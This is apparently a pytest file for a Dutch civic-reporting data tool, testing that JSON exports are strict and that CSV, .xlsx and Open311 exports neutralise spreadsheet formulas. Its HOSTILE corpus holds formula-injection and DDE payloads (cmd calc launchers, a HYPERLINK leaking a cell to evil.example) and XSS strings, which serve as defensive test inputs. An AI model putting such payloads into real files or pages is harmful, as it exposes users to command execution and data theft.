"""Exports are valid and safe in a spreadsheet: every JSON the project writes parses with a
strict parser (no NaN, no Infinity), and every text cell of a CSV, .xlsx or Open311 export that
a spreadsheet would run as a formula starts with a single quote (OWASP's rule).

A corpus of hostile texts (formulas, markdown, HTML, control characters) is ingested as reports
and ideas into a copy of the seeded pilot, then every export is read back as a user's tool would:
the CSV as text, the .xlsx with openpyxl, the JSON with a parser that refuses NaN/Infinity."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import math
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from sqlalchemy import Engine, select
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from hoplr_data.bottom_up.inbox import InboxFilter, list_items, open311
from hoplr_data.core import models as m
from hoplr_data.core.db import make_engine
from hoplr_data.core.export import dumps, neutralise
from hoplr_data.ingest.pipeline import ingest_events
from tests.helpers import app, logged_in
from ui.downloads import csv_bytes, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]
NOW = dt.datetime(2020, 6, 1, 12)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CONTROL = "\x07"

# Texts a resident could send: formulas in every spelling a spreadsheet runs, and markup.
HOSTILE = [
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1;\"klik\")",
    "=cmd|' /C calc'!A0",
    "+31 6 1234 5678 belt u terug",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 na een tab",
    "\r=1+1 na een carriage return",
    "# Kop\n\n**vet** [klik](javascript:alert(1)) ![pixel](https://evil.example/p.png)",
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "bel \x07 en escape \x1b[31m rood",  # CONTROL
    "gewone melding: de lantaarnpaal = kapot, -5 graden, @gemeente",
]


def strict_loads(text: str) -> object:
    """json.loads that refuses NaN, Infinity and -Infinity, as JavaScript's JSON.parse does."""

    def refuse(token: str) -> None:
        raise ValueError(f"not JSON: {token}")

    return json.loads(text, parse_constant=refuse)


def assert_neutral(value: object, where: str) -> None:
    """Text never starts with a formula character (a leading quote makes it text)."""
    if isinstance(value, str):
        assert not value.startswith(FORMULA_STARTS), f"{where}: {value!r}"


def add_hostile_items(engine: Engine) -> list[str]:
    """Ingest every hostile text as a report and as an idea (as text, address and contact)."""
    with engine.connect() as conn:
        household = conn.execute(select(m.Membership.household_id).limit(1)).scalar_one()
    events = [
        {
            "id": f"{kind}-hostile-{i}",
            "type": kind,
            "time": "2020-05-09T10:00:00",
            "household_id": household,
            "buurt": "DH-DUI",
            "text": text,
            "location": {"address": "=1+1 " + str(i)},
        }
        for i, text in enumerate(HOSTILE)
        for kind in ("report", "idea")
    ]
    report = ingest_events(engine, events)
    # ingest may refuse control characters (its own rule); every other text must come in
    refused = {r.raw.split('"')[3] for r in report.rejected}
    assert all(CONTROL in HOSTILE[int(i.rsplit("-", 1)[1])] for i in refused), report.rejected
    return [e["id"] for e in events if e["id"] not in refused]


def add_hostile_answers(engine: Engine) -> int:
    """Every hostile text as the open answer (q5) of the pilot survey, by registered households;
    returns the survey's publication id."""
    with engine.connect() as conn:
        survey = conn.execute(
            select(m.Publication.id, m.Publication.published_at).where(
                m.Publication.kind == "survey"
            )
        ).one()
        households = conn.execute(
            select(m.Membership.household_id)
            .where(m.Membership.registered_at < survey.published_at)
            .where(m.Membership.deregistered_at.is_(None))
            .order_by(m.Membership.household_id)
            .limit(3 * len(HOSTILE))
        ).scalars()
        texts = HOSTILE * 3
        events = [
            {
                "id": f"survey-hostile-{i}",
                "type": "survey_response",
                "time": (survey.published_at + dt.timedelta(days=1)).isoformat(),
                "household_id": household,
                "publication_id": survey.id,
                "answers": {"q1": "yes", "q2": "o1", "q4": 7, "q5": texts[i]},
            }
            for i, household in enumerate(households)
        ]
    report = ingest_events(engine, events)
    assert report.imported["publication_response"] >= 2 * len(HOSTILE), report.rejected
    return survey.id


@pytest.fixture
def hostile_url(pilot_db_url: str) -> str:
    """A pilot copy with the hostile corpus ingested."""
    engine = make_engine(pilot_db_url)
    add_hostile_items(engine)
    engine.dispose()
    return pilot_db_url


def inbox_frame(url: str) -> pd.DataFrame:
    """Every item the inbox lists (no filter), as the Inbox page and the CLI read them."""
    engine = make_engine(url)
    frame = list_items(engine, InboxFilter(), lang="nl", now=NOW)
    engine.dispose()
    return frame


# --- the JSON encoder --------------------------------------------------------------------------


def test_dumps_writes_missing_values_as_null_and_dates_as_iso():
    value = {
        "nan": float("nan"),
        "np_nan": np.float64("nan"),
        "nat": pd.NaT,
        "na": pd.NA,
        "none": None,
        "count": np.int64(3),
        "share": np.float64(0.25),
        "negative": -2,
        "moment": pd.Timestamp("2020-03-29 10:15"),
        "day": dt.date(2020, 3, 29),
        "nested": [{"x": float("nan")}, (1, 2)],
    }
    parsed = strict_loads(dumps(value))
    assert parsed == {
        "nan": None,
        "np_nan": None,
        "nat": None,
        "na": None,
        "none": None,
        "count": 3,
        "share": 0.25,
        "negative": -2,
        "moment": "2020-03-29T10:15:00",
        "day": "2020-03-29",
        "nested": [{"x": None}, [1, 2]],
    }


@pytest.mark.parametrize("infinite", [math.inf, -math.inf, np.float64("inf")])
def test_dumps_refuses_infinities(infinite):
    with pytest.raises(ValueError):
        dumps({"figure": infinite})


def test_strict_parser_refuses_what_python_writes_by_default():
    """The check used below is real: Python's default json.dumps output is refused."""
    with pytest.raises(ValueError):
        strict_loads(json.dumps({"address": float("nan")}))


# --- the spreadsheet guard ---------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_neutralise_prefixes_a_quote_and_keeps_the_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["gewoon", "a=b", "", " =1", -5, -2.5, 0, None])
def test_neutralise_leaves_safe_text_and_numbers_alone(value):
    assert neutralise(value) == value


def test_csv_and_xlsx_keep_negative_numbers_as_numbers():
    frame = pd.DataFrame({"delta": [-3, 4], "text": ["-3", "=A1"]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame, "en").decode("utf-8-sig"))))
    assert rows == [["delta", "text"], ["-3", "'-3"], ["4", "'=A1"]]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, "en"))).active
    assert [c.value for c in sheet[2]] == [-3, "'-3"]
    assert sheet["B3"].data_type == "s"


def test_csv_and_xlsx_of_every_hostile_text():
    """Each corpus text (also with control characters, which ingest may refuse) in a header and
    in a cell: neutralised in both files, and the .xlsx still opens."""
    frame = pd.DataFrame({text: [text, -1.5] for text in HOSTILE})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame, "nl").decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 3
    for cell in rows[0] + rows[1]:
        assert_neutral(cell, "csv")
    assert rows[1][1] == "'" + HOSTILE[1]
    assert rows[2][0] == "-1,5"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, "nl"))).active
    for cell in [*sheet[1], *sheet[2]]:
        assert cell.data_type == "s"
        assert_neutral(cell.value, f"xlsx {cell.coordinate}")
    assert sheet["B2"].value == "'" + HOSTILE[1]
    assert sheet["A3"].value == -1.5


# --- every export of the pilot, with the hostile corpus ----------------------------------------


def test_open311_of_the_seeded_pilot_is_strict_json(pilot_db_url, monkeypatch, capsys):
    """The defect: missing addresses and photos were written as bare NaN tokens."""
    from hoplr_data.__main__ import main

    frame = inbox_frame(pilot_db_url)
    records = open311(frame)
    assert strict_loads(json.dumps(records)) == strict_loads(dumps(records))  # no NaN left
    monkeypatch.setenv("DATABASE_URL", pilot_db_url)
    assert main(["open311", "export"]) == 0
    requests = strict_loads(capsys.readouterr().out)
    assert len(requests) == len(frame) > 0
    assert any(r["address"] is None for r in requests)
    assert any(r["media_url"] is None for r in requests)


def test_open311_export_neutralises_hostile_texts(hostile_url):
    frame = inbox_frame(hostile_url)
    requests = strict_loads(dumps(open311(frame)))
    by_id = {r["service_request_id"]: r for r in requests}
    for request in requests:
        for field, value in request.items():
            assert_neutral(value, f"open311 {request['service_request_id']} {field}")
    formula = by_id["report-hostile-1"]
    assert formula["description"] == "'=cmd|' /C calc'!A0"
    assert formula["address"] == "'=1+1 1"
    assert by_id["idea-hostile-3"]["description"].startswith("'-2+3")
    plain = by_id["report-hostile-10"]["description"]
    assert plain == HOSTILE[10]


def test_inbox_csv_and_xlsx_neutralise_hostile_texts(hostile_url):
    frame = inbox_frame(hostile_url)
    text = csv_bytes(frame, "nl").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) == len(frame) + 1
    for row in rows:
        for cell in row:
            assert_neutral(cell, "inbox csv")
    assert any(cell == "'=cmd|' /C calc'!A0" for row in rows for cell in row)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, "nl"))).active
    cells = [c for row in sheet.iter_rows() for c in row]
    for cell in cells:
        assert cell.data_type != "f", cell.value
        assert_neutral(cell.value, f"inbox xlsx {cell.coordinate}")
    assert any(c.value == "'=cmd|' /C calc'!A0" for c in cells)


def test_cli_open311_export_is_strict_and_neutralised(hostile_url, monkeypatch, capsys):
    from hoplr_data.__main__ import main

    monkeypatch.setenv("DATABASE_URL", hostile_url)
    assert main(["open311", "export"]) == 0
    requests = strict_loads(capsys.readouterr().out)
    assert {"report-hostile-0", "idea-hostile-0"} <= {r["service_request_id"] for r in requests}
    for request in requests:
        for field, value in request.items():
            assert_neutral(value, f"cli open311 {field}")


def test_cli_summary_json_is_strict(hostile_url, monkeypatch, capsys):
    from hoplr_data.__main__ import main

    monkeypatch.setenv("DATABASE_URL", hostile_url)
    assert main(["summary", "--format", "json"]) == 0
    figures = strict_loads(capsys.readouterr().out)
    assert figures["households_total"] == 34480


def test_cli_summary_json_of_a_period_without_data_is_strict(pilot_db_url, monkeypatch, capsys):
    """Shares over zero households are missing values, written as null (never NaN)."""
    from hoplr_data.__main__ import main

    monkeypatch.setenv("DATABASE_URL", pilot_db_url)
    assert main(["summary", "--format", "json", "--as-of", "2000-01-01"]) in (0, 2)
    out = capsys.readouterr().out
    if out:
        strict_loads(out)


def test_cli_outbox_export_is_strict_json_lines(hostile_url, monkeypatch, capsys, tmp_path):
    from hoplr_data.__main__ import main

    monkeypatch.setenv("DATABASE_URL", hostile_url)
    target = tmp_path / "outbox.jsonl"
    assert main(["outbox", "export", "--file", str(target)]) == 0
    for line in target.read_text(encoding="utf-8").splitlines():
        assert isinstance(strict_loads(line), dict)


# --- one way out: no page offers a download of its own ----------------------------------------


def test_every_download_goes_through_the_export_helpers():
    """Only ui/downloads.py calls st.download_button, and it neutralises every text cell."""
    callers = sorted(
        str(path.relative_to(ROOT))
        for folder in ("pages", "ui")
        for path in (ROOT / folder).rglob("*.py")
        if "download_button(" in path.read_text(encoding="utf-8")
    )
    assert callers == ["ui/downloads.py"]
    assert "download_button(" not in (ROOT / "app.py").read_text(encoding="utf-8")


# --- every download of every page (AppTest, SQLite) -------------------------------------------

PAGES = [
    ("pages/1_Buurten.py", "wijkregisseur"),
    ("pages/2_Topics.py", "wijkregisseur"),
    ("pages/3_Inbox.py", "behandelaar"),
    ("pages/4_Publish.py", "wijkregisseur"),
    ("pages/5_Results.py", "viewer"),
    ("pages/6_Notifications.py", "wijkregisseur"),
]


def page_downloads(
    url: str,
    page: str,
    user: str,
    monkeypatch: pytest.MonkeyPatch,
    media: list[MemoryMediaFileStorage],
    query: dict[str, str] | None = None,
) -> dict[str, list[bytes]]:
    """Every file a page offers for download: name suffix -> list of contents."""
    at = app(url, monkeypatch, page)
    for key, value in (query or {}).items():
        at.query_params[key] = value
    logged_in(at, user)
    at.session_state["lang_user"] = user
    at.session_state["lang"] = "nl"
    at.run()
    assert not at.exception, at.exception
    files: dict[str, list[bytes]] = {}
    for button in at.get("download_button"):
        url_path, content = media[-1].download(button)
        files.setdefault(url_path.rsplit(".", 1)[-1], []).append(content)
    return files


def check_files(files: dict[str, list[bytes]], where: str) -> list[str]:
    """Every text of every file neutralised, every JSON strict; returns all texts seen."""
    texts: list[str] = []
    for data in files.get("csv", []):
        body = data.decode("utf-8-sig")
        texts += [c for row in csv.reader(io.StringIO(body), delimiter=";") for c in row]
    for data in files.get("xlsx", []):
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: formula {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for data in files.get("json", []):
        for record in strict_loads(data.decode("utf-8")):
            texts += [v for v in record.values() if isinstance(v, str)]
    assert set(files) <= {"csv", "xlsx", "json"}, f"{where}: {set(files)}"
    for text in texts:
        assert_neutral(text, where)
    return texts


def test_every_download_of_every_page_is_neutralised(pilot_sqlite_url, monkeypatch, media):
    engine = make_engine(pilot_sqlite_url)
    add_hostile_items(engine)
    survey = add_hostile_answers(engine)
    engine.dispose()
    formula = "'" + HOSTILE[1]
    seen: dict[str, list[str]] = {}
    for page, user in PAGES:
        query = {"pub": str(survey)} if page.endswith("Results.py") else None
        files = page_downloads(pilot_sqlite_url, page, user, monkeypatch, media, query)
        seen[page] = check_files(files, page)
    assert formula in seen["pages/3_Inbox.py"]  # Inbox CSV, XLSX and Open311 JSON
    assert formula in seen["pages/5_Results.py"]  # the survey's open answers
    assert seen["pages/1_Buurten.py"] and seen["pages/2_Topics.py"]
